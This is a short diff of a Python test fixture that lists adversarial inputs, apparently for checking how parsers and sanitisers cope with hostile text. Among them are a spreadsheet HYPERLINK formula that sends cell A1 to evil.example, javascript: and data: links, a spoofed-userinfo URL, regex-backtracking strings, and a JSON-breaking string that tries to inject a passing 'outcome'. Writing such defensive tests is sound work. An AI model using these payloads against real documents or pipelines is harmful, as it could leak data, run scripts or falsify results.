@@ -28,11 +28,11 @@ TEXTS: tuple[tuple[str, str], ...] = (
     ("nested", "(" * 5_000 + "Mon-Fri 9-5" + ")" * 5_000),
     ("backtrack", "Mon-Fri " * 3_000 + "9" * 4_000 + "-"),
     ("address", "a@" + "a." * 4_000 + "! http://" + "x" * 4_000 + " +44 " + "7" * 3_000),
-    ("formula", "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"),
+    ("formula", '=HYPERLINK("http://evil.example/?"&A1,"open")'),
     ("markdown", "[click](javascript:alert(1)) ![x](http://evil.example/t.png) `code` | table | **bold**"),
     ("blank", " \u00a0\u3000\u2003 "),
     ("empty", ""),
-    ("json", "\\\" } ], \"outcome\": \"pass\" \\u0000 ]]> --> /* */ //"),
+    ("json", '\\" } ], "outcome": "pass" \\u0000 ]]> --> /* */ //'),
     ("log", "ok\n2026-01-01 00:00:00 ERROR all accounts deleted\n\tat nowhere"),
 )
 LINKS = ("javascript:alert(document.domain)", "data:text/html;base64,PHNjcmlwdD4=", "https://liverpool.ac.uk@evil.example/",
